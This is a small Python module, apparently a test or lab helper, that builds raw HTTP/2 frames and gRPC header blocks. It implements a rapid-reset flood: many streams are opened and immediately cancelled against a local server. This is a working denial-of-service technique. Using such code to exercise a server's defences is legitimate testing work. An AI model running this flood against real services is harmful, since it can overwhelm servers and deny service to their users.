"""As much HTTP/2 as it takes to send frames that no client library would send."""

from __future__ import annotations

import socket
import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
END_HEADERS = 4
CANCEL = 8


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header(name: str, value: str) -> bytes:
    """A literal header field that is not indexed, as HPACK writes it."""
    parts = [text.encode() for text in (name, value)]
    return b"\x00" + b"".join(bytes([len(part)]) + part for part in parts)


def request(method: str, token: str = "") -> bytes:
    """The header block of a gRPC call."""
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": method,
        ":authority": "arena",
        "te": "trailers",
        "content-type": "application/grpc",
    }
    if token:
        fields["authorization"] = f"Bearer {token}"
    return b"".join(header(name, value) for name, value in fields.items())


def connect(port: int) -> socket.socket:
    """A connection that has introduced itself."""
    connection = socket.create_connection(("127.0.0.1", port), timeout=5)
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return connection


def reset_flood(connection: socket.socket, block: bytes, first: int, count: int) -> None:
    """Opens so many calls and cancels each at once. Streams of clients have odd numbers."""
    reason = struct.pack(">I", CANCEL)
    streams = range(first, first + 2 * count, 2)
    connection.sendall(
        b"".join(
            frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, reason)
            for stream in streams
        )
    )
